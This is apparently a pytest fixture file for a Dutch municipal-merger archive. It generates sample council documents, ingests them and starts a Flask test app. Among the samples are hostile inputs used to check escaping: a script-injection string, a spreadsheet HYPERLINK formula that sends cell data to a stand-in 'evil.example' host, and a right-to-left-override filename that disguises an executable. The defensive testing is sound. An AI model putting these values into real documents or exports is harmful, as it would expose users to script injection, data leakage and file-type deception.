"""One data folder per test session, built by the real ingest over real documents made here (plus a few
of the shared fixture files), and the Flask app over it."""
from __future__ import annotations

import shutil
import textwrap
from pathlib import Path

import pytest
from docx import Document
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from archive import Catalog, DataDir
from indexer.service import run_ingest
from webui import create_app

SCRIPT = "<script>alert(1)</script>"
NON_ASCII_NAME = "Besluit ‘fusie’ Súdwest-Fryslân.txt"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
# A right-to-left override makes "notulen\u202efdp.exe" show as "notulenexe.pdf".
BIDI_NAME = "notulen\u202efdp.exe.txt"


def write_pdf(path: Path, title: str, paragraphs: list[str]) -> None:
    pdf = canvas.Canvas(str(path), pagesize=A4, invariant=1)
    pdf.setTitle(title)
    y = 800
    for paragraph in [title, *paragraphs]:
        for line in textwrap.wrap(paragraph, 85):
            pdf.drawString(60, y, line)
            y -= 16
        y -= 8
    pdf.save()


def write_docx(path: Path, title: str, paragraphs: list[str]) -> None:
    document = Document()
    document.core_properties.title = title
    document.add_heading(title, level=1)
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    document.save(str(path))


def make_documents(inbox: Path) -> dict[str, Path]:
    """name -> path; each with different content, Dutch and realistic enough for detection."""
    inbox.mkdir(parents=True)
    files = {}
    files["mandaat"] = inbox / "mandaatbesluit-dinkelland.pdf"
    write_pdf(files["mandaat"], "Mandaatbesluit Dinkelland 2013", [
        "Het college van burgemeester en wethouders van de gemeente Dinkelland besluit op 9 april 2013 "
        "tot vaststelling van het Mandaatbesluit Dinkelland 2013.",
        "Artikel 1. Aan de directeur van Noaberkracht, de ambtelijke organisatie van de gemeenten "
        "Dinkelland en Tubbergen, wordt mandaat verleend voor de bevoegdheden in de bijlage.",
        "Artikel 2. Ondermandaat kan worden verleend aan de teamleiders van Noaberkracht.",
    ])
    files["statuut"] = inbox / "sociaal-statuut-bar.docx"
    write_docx(files["statuut"], "Sociaal statuut BAR-organisatie", [
        "Sociaal statuut voor de medewerkers van de gemeenten Barendrecht, Albrandswaard en Ridderkerk "
        "bij de vorming van de BAR-organisatie, vastgesteld op 12 juni 2013.",
        "De medewerkers behouden hun rechtspositie. Er vallen geen gedwongen ontslagen als gevolg van "
        "de ambtelijke fusie van de drie gemeenten.",
    ])
    files["script"] = inbox / "raadsvoorstel-script.docx"
    write_docx(files["script"], f"Raadsvoorstel {SCRIPT} Tubbergen", [
        f"Raadsvoorstel van de gemeente Tubbergen van 3 maart 2015 over de samenwerking. {SCRIPT}",
        "Voorgesteld wordt in te stemmen met de evaluatie van de samenwerking in Noaberkracht.",
    ])
    files["nonascii"] = inbox / NON_ASCII_NAME
    files["nonascii"].write_text(
        "Besluit van de gemeenteraad van Súdwest-Fryslân van 5 januari 2016 over de gemeenschappelijke "
        "regeling voor de uitvoering van de belastingen.\n\nDe raad besluit de regeling vast te stellen.\n",
        encoding="utf-8",
    )
    files["formula"] = inbox / BIDI_NAME
    files["formula"].write_text(
        f"{FORMULA}\n\nNotulen van de raad van de gemeente Skarsterlân\n\nOver de samenwerking met de gemeenten "
        "in Friesland, vastgesteld op 4 juli 2012.\n", encoding="utf-8")
    files["copy"] = inbox / "kopie" / "mandaat-kopie.pdf"
    files["copy"].parent.mkdir()
    shutil.copyfile(files["mandaat"], files["copy"])
    files["broken"] = inbox / "kapot-besluit.pdf"
    files["broken"].write_bytes(files["mandaat"].read_bytes()[:400])
    return files


@pytest.fixture(scope="session")
def web_data(tmp_path_factory, fixture_files) -> dict:
    """{root, files, ids}: ids maps our names to document ids, read back from the catalog."""
    base = tmp_path_factory.mktemp("webui")
    files = make_documents(base / "in")
    for name in ("pdf_multipage", "odt", "html", "txt_utf8"):
        files[name] = base / "in" / fixture_files[name].name
        shutil.copyfile(fixture_files[name], files[name])
    data = DataDir(base / "data")
    summary = run_ingest(data, [base / "in"], jobs=2, progress=False)
    assert summary.failed == 1 and summary.indexed > 0, summary.as_dict()
    with Catalog(data.catalog_path, readonly=True) as catalog:
        ids = {name: catalog.arrived_as(path=str(path))[0] for name, path in files.items()}
    return {"root": data.root, "files": files, "ids": ids, "script": SCRIPT, "formula": FORMULA}


@pytest.fixture(scope="session")
def app(web_data):
    return create_app({"FUSIEARCHIEF_DATA": str(web_data["root"]), "TESTING": True, "EXPORT_MAX": 5})


@pytest.fixture
def client(app):
    return app.test_client()


@pytest.fixture
def ids(web_data) -> dict[str, str]:
    return web_data["ids"]
